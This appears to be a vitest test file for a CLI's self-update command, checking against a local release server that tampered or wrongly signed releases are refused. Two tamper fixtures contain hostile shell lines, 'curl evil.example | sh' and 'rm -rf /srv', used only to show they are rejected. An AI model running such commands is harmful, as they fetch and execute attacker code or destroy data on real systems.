// `neurocards update` against a release server on loopback: releases are made by the release
// script's own code (build/release-files.ts) with a key pair of the test's, and the "executables"
// are small shell scripts that print their version, like the real one does for --version.
import { generateKeyPairSync } from "node:crypto";
import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Command, CommanderError } from "commander";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { writeReleaseManifest } from "../build/release-files.ts";
import { runCli } from "../src/cli/index.ts";
import { CliError, type CliIo } from "../src/cli/io.ts";
import { assetName, registerUpdate } from "../src/cli/update.ts";
import { VERSION } from "../src/version.ts";

const NEW = "9.9.9";
const key = generateKeyPairSync("ed25519");
const PRIVATE = key.privateKey.export({ type: "pkcs8", format: "pem" }).toString();
const PUBLIC = key.publicKey.export({ type: "spki", format: "der" }).toString("base64");
const OTHER_PRIVATE = generateKeyPairSync("ed25519")
  .privateKey.export({ type: "pkcs8", format: "pem" })
  .toString();
const ASSET = assetName(process.arch);

const script = (version: string, extra = "") => `#!/bin/sh\n${extra}echo ${version}\n`;

let dir: string;
let releaseDir: string;
let exe: string;
let server: Server;
let base: string;
let requests: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    const name = decodeURIComponent((req.url ?? "/").split("/").pop() ?? "");
    requests.push(name);
    try {
      res.end(readFileSync(join(releaseDir, name)));
    } catch {
      res.statusCode = 404;
      res.end("not found");
    }
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/releases/latest/download`;
});
afterAll(() => new Promise((r) => server.close(r)));

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), "nc-update-"));
  releaseDir = join(dir, "release");
  mkdirSync(releaseDir);
  mkdirSync(join(dir, "opt"));
  exe = join(dir, "opt", "neurocards");
  writeFileSync(exe, script(VERSION), { mode: 0o750 });
  requests = [];
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** A release of `version` for x64 and arm64, signed with `privateKey`. */
function publish(version = NEW, privateKey = PRIVATE): void {
  for (const arch of ["x64", "arm64"]) {
    writeFileSync(join(releaseDir, assetName(arch)), script(version), { mode: 0o755 });
  }
  writeReleaseManifest(releaseDir, version, privateKey);
}

function io(env: Record<string, string> = {}): { io: CliIo; out: string[]; err: string[] } {
  const out: string[] = [];
  const err: string[] = [];
  return {
    out,
    err,
    io: {
      out: (l) => out.push(l),
      err: (l) => err.push(l),
      env: { PATH: process.env.PATH ?? "", ...env },
      cwd: dir,
      execPath: exe,
      isTTY: false,
      waitForSignal: () => new Promise(() => {}),
    },
  };
}

/** `neurocards update ARGS` trusting the test's key; exit code and what it printed. */
async function update(args: string[] = [], env: Record<string, string> = {}) {
  const t = io({ NEUROCARDS_RELEASE_URL: base, ...env });
  const program = new Command().exitOverride();
  registerUpdate(program, t.io, PUBLIC);
  let code = 0;
  try {
    await program.parseAsync(["update", ...args], { from: "user" });
  } catch (e) {
    if (e instanceof CliError) t.err.push(e.message);
    else if (!(e instanceof CommanderError)) throw e;
    code = e instanceof CliError ? e.exitCode : 2;
  }
  return { code, out: t.out.join("\n"), err: t.err.join("\n") };
}

const leftovers = () =>
  readdirSync(join(dir, "opt")).filter((n) => n.endsWith(".tmp") || n.endsWith(".prev"));

describe("neurocards update", () => {
  it("replaces the executable with the release for this CPU, keeps the old one as neurocards.prev, and says to restart", async () => {
    publish();
    const r = await update();
    expect(r.err).toBe("");
    expect(r.code).toBe(0);
    expect(readFileSync(exe, "utf8")).toBe(script(NEW));
    expect(statSync(exe).mode & 0o777).toBe(0o750);
    expect(readFileSync(`${exe}.prev`, "utf8")).toBe(script(VERSION));
    expect(r.out).toContain(`updated neurocards ${VERSION} → ${NEW}; the previous file is ${exe}.prev`);
    expect(r.out).toContain("restart to run it: sudo systemctl restart neurocards");
    expect(requests).toContain(ASSET);
    expect(requests.filter((n) => n.startsWith("neurocards-linux-"))).toEqual([ASSET]);
    expect(leftovers()).toEqual(["neurocards.prev"]);
  });

  it("through a symlink replaces the file it points to and leaves the link", async () => {
    publish();
    const link = join(dir, "neurocards-link");
    symlinkSync(exe, link);
    const t = io({ NEUROCARDS_RELEASE_URL: base });
    const program = new Command().exitOverride();
    registerUpdate(program, { ...t.io, execPath: link }, PUBLIC);
    await program.parseAsync(["update"], { from: "user" });
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(readFileSync(exe, "utf8")).toBe(script(NEW));
    expect(readFileSync(`${exe}.prev`, "utf8")).toBe(script(VERSION));
  });

  it("says there is nothing to do when the latest release is the running version, without downloading it", async () => {
    publish(VERSION);
    const r = await update();
    expect(r.code).toBe(0);
    expect(r.out).toBe(`neurocards ${VERSION} is the latest release: nothing to do`);
    expect(requests).not.toContain(ASSET);
    expect(readFileSync(exe, "utf8")).toBe(script(VERSION));
  });

  it("refuses a tampered executable and leaves the installed one untouched", async () => {
    publish();
    writeFileSync(join(releaseDir, ASSET), script(NEW, "curl evil.example | sh\n"));
    const r = await update();
    expect(r.code).toBe(1);
    expect(r.err).toContain(`${ASSET} does not match SHA256SUMS`);
    expect(r.err).toContain("refused, nothing was replaced");
    expect(readFileSync(exe, "utf8")).toBe(script(VERSION));
    expect(leftovers()).toEqual([]);
  });

  it("refuses SHA256SUMS signed with another key, before downloading the executable", async () => {
    publish(NEW, OTHER_PRIVATE);
    const r = await update();
    expect(r.code).toBe(1);
    expect(r.err).toContain("SHA256SUMS is not signed with the Neurocards release key: refused");
    expect(requests).not.toContain(ASSET);
    expect(readFileSync(exe, "utf8")).toBe(script(VERSION));
  });

  it("refuses SHA256SUMS changed after signing (a tampered file with its new checksum)", async () => {
    publish();
    const genuineSignature = readFileSync(join(releaseDir, "SHA256SUMS.sig"));
    writeFileSync(join(releaseDir, ASSET), script(NEW, "rm -rf /srv\n"));
    writeReleaseManifest(releaseDir, NEW, OTHER_PRIVATE);
    writeFileSync(join(releaseDir, "SHA256SUMS.sig"), genuineSignature);
    const r = await update();
    expect(r.code).toBe(1);
    expect(r.err).toContain("is not signed with the Neurocards release key");
    expect(requests).not.toContain(ASSET);
    expect(readFileSync(exe, "utf8")).toBe(script(VERSION));
  });

  it("refuses a garbled signature file", async () => {
    publish();
    writeFileSync(join(releaseDir, "SHA256SUMS.sig"), "not base64 at all\n");
    const r = await update();
    expect(r.code).toBe(1);
    expect(r.err).toContain("is not signed with the Neurocards release key");
  });

  it("keeps the installed executable when the downloaded one does not report the release's version", async () => {
    for (const arch of ["x64", "arm64"]) writeFileSync(join(releaseDir, assetName(arch)), script("1.0.0"));
    writeReleaseManifest(releaseDir, NEW, PRIVATE);
    const r = await update();
    expect(r.code).toBe(1);
    expect(r.err).toContain(`reports version 1.0.0, the release says ${NEW}: nothing was replaced`);
    expect(readFileSync(exe, "utf8")).toBe(script(VERSION));
    expect(leftovers()).toEqual([]);
  });

  it("names the missing file when the release has none for this CPU", async () => {
    writeFileSync(join(releaseDir, assetName("riscv64")), script(NEW));
    writeReleaseManifest(releaseDir, NEW, PRIVATE);
    const r = await update();
    expect(r.code).toBe(1);
    expect(r.err).toContain(`has no ${ASSET} (this machine is linux-${process.arch})`);
  });

  it("says which URL failed when the release server is unreachable", async () => {
    const closed = createServer();
    await new Promise<void>((r) => closed.listen(0, "127.0.0.1", r));
    const { port } = closed.address() as AddressInfo;
    await new Promise((r) => closed.close(r));
    const r = await update([], { NEUROCARDS_RELEASE_URL: `http://127.0.0.1:${port}/download` });
    expect(r.code).toBe(1);
    expect(r.err).toBe(`cannot download http://127.0.0.1:${port}/download/SHA256SUMS: ECONNREFUSED`);
  });

  it("takes --from over the environment, and refuses a URL that is not http(s) as a usage error", async () => {
    publish();
    const r = await update(["--from", base], { NEUROCARDS_RELEASE_URL: "http://127.0.0.1:1/x" });
    expect(r.code).toBe(0);
    const bad = await update(["--from", "ftp://example.org/x"]);
    expect(bad.code).toBe(2);
    expect(bad.err).toContain('the release URL must be http(s)://…, got "ftp://example.org/x"');
  });

  it("restarts the systemd unit with --restart", async () => {
    publish();
    const bin = join(dir, "fakebin");
    mkdirSync(bin);
    const calls = join(dir, "systemctl.calls");
    writeFileSync(join(bin, "systemctl"), `#!/bin/sh\necho "$@" >> ${calls}\n`, { mode: 0o755 });
    const r = await update(["--restart", "neurocards-worker"], { PATH: `${bin}:${process.env.PATH}` });
    expect(r.err).toBe("");
    expect(readFileSync(calls, "utf8")).toBe("restart neurocards-worker\n");
    expect(r.out).toContain("restarted neurocards-worker");
  });

  it("says the update is in place but the restart failed when systemctl fails", async () => {
    publish();
    const bin = join(dir, "fakebin");
    mkdirSync(bin);
    writeFileSync(join(bin, "systemctl"), "#!/bin/sh\necho 'Access denied' >&2\nexit 1\n", { mode: 0o755 });
    const r = await update(["--restart"], { PATH: `${bin}:${process.env.PATH}` });
    expect(r.code).toBe(1);
    expect(r.err).toBe(
      "updated, but systemctl restart neurocards failed (Access denied): restart it by hand",
    );
    expect(readFileSync(exe, "utf8")).toBe(script(NEW));
  });

  it("in the real command line trusts only the embedded release key", async () => {
    publish();
    const t = io({ NEUROCARDS_RELEASE_URL: base });
    const code = await runCli(["update"], t.io);
    expect(code).toBe(1);
    expect(t.err.join("\n")).toContain("is not signed with the Neurocards release key");
    expect(readFileSync(exe, "utf8")).toBe(script(VERSION));
  });
});
